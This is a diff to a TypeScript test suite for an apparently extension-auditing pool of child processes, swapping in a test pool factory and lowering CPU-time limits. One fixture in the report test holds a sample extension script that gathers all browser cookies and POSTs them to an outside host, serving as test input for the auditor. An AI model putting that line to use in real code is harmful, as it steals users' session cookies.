@@ -11,13 +11,14 @@ import {
   slowLine,
   waitFor,
 } from '../../testing/audit-children.ts';
-import { createAuditPool, type AuditCost } from './index.ts';
+import type { AuditCost } from './index.ts';
+import { createTestPool } from '../../testing/test-pool.ts';
 
 const analyzedAt = '2031-05-06T07:08:09.000Z';
 const options = { analyzedAt };
 
 describe('audits in child processes', () => {
-  const pool = createAuditPool({ processes: 2 });
+  const pool = createTestPool({ processes: 2 });
   after(() => pool.close());
 
   it('give the report, with bytes and maps intact', async () => {
@@ -120,7 +121,7 @@ describe('audits in child processes', () => {
 
 describe('a child that has grown', () => {
   it('makes room for a new one, which does not need as much', async () => {
-    const pool = createAuditPool({ processes: 1 });
+    const pool = createTestPool({ processes: 1 });
     const costs: AuditCost[] = [];
     const auditWith = (code: string) =>
       pool.audit(extension({ 'worker.js': code }), {
@@ -144,8 +145,8 @@ describe('a report', () => {
     const source = extension({
       'worker.js': `${slowLine.repeat(500)};chrome.cookies.getAll({}, (c) => fetch('https://in.gather.dev/', { method: 'POST', body: JSON.stringify(c) }))`,
     });
-    const alone = createAuditPool({ processes: 1 });
-    const crowded = createAuditPool({ processes: 4 });
+    const alone = createTestPool({ processes: 1 });
+    const crowded = createTestPool({ processes: 4 });
     const spinners = Array.from({ length: 2 }, () =>
       spawn(process.execPath, ['--eval', 'for (;;);'], { stdio: 'ignore' }),
     );
@@ -169,7 +170,7 @@ describe('a child that dies', () => {
   const slowCode = slowLine.repeat(60_000);
 
   it('by SIGKILL during an audit: the audit is tried again, another one runs to its end', async () => {
-    const pool = createAuditPool({ processes: 2 });
+    const pool = createTestPool({ processes: 2 });
     try {
       const before = new Set(childrenOf(process.pid));
       const victim = pool.audit(extension({ 'worker.js': slowCode }), options);
@@ -187,7 +188,7 @@ describe('a child that dies', () => {
   });
 
   it('by the processor time of one script: it alone is left out, and told with what it took', async () => {
-    const pool = createAuditPool({ processes: 1, scriptCpuSecondsMax: 2.5 });
+    const pool = createTestPool({ processes: 1, scriptCpuSecondsMax: 1.2 });
     try {
       const others = Object.fromEntries(
         Array.from({ length: 40 }, (_, index) => [`other-${index}.js`, 'let tide = 3;']),
@@ -198,7 +199,7 @@ describe('a child that dies', () => {
         options,
       );
       assert.deepEqual(report.coverage.skipped, [
-        { what: 'slow.js', why: 'It took more than 2.5 s of processor time.' },
+        { what: 'slow.js', why: 'It took more than 1.2 s of processor time.' },
       ]);
     } finally {
       await pool.close();
@@ -206,10 +207,10 @@ describe('a child that dies', () => {
   });
 
   it('again and again ends in a report within the time of one audit, and the rest that needs no code', async () => {
-    const pool = createAuditPool({
+    const pool = createTestPool({
       processes: 1,
-      auditCpuSecondsMax: 3,
-      scriptCpuSecondsMax: 2.5,
+      auditCpuSecondsMax: 1.5,
+      scriptCpuSecondsMax: 1.2,
     });
     try {
       const slow = Object.fromEntries(
@@ -229,7 +230,7 @@ describe('a child that dies', () => {
   });
 
   it('of no processor time says nothing of the package: the audit is to be tried again', async () => {
-    const pool = createAuditPool({ processes: 1, auditSecondsMax: 4 });
+    const pool = createTestPool({ processes: 1, auditSecondsMax: 4 });
     try {
       const before = new Set(childrenOf(process.pid));
       await pool.audit(extension({ 'worker.js': 'let tide = 3;' }), options);
@@ -266,7 +267,7 @@ describe('a child that dies', () => {
 describe('closing', () => {
   it('lets running audits finish and ends all children', async () => {
     const before = childrenOf(process.pid);
-    const pool = createAuditPool({ processes: 2 });
+    const pool = createTestPool({ processes: 2 });
     const audit = pool.audit(extension({ 'worker.js': 'let tide = 13;' }), options);
     await pool.close();
     assert.equal((await audit).report.analyzed_at, analyzedAt);
@@ -275,7 +276,7 @@ describe('closing', () => {
 
   it('leaves no child to who asks afterwards', async () => {
     const before = childrenOf(process.pid);
-    const pool = createAuditPool({ processes: 1 });
+    const pool = createTestPool({ processes: 1 });
     await pool.close();
     const summary = await pool.summarise(extension({ 'worker.js': 'let tide = 14;' }));
     assert.equal(summary.version, '4.2');
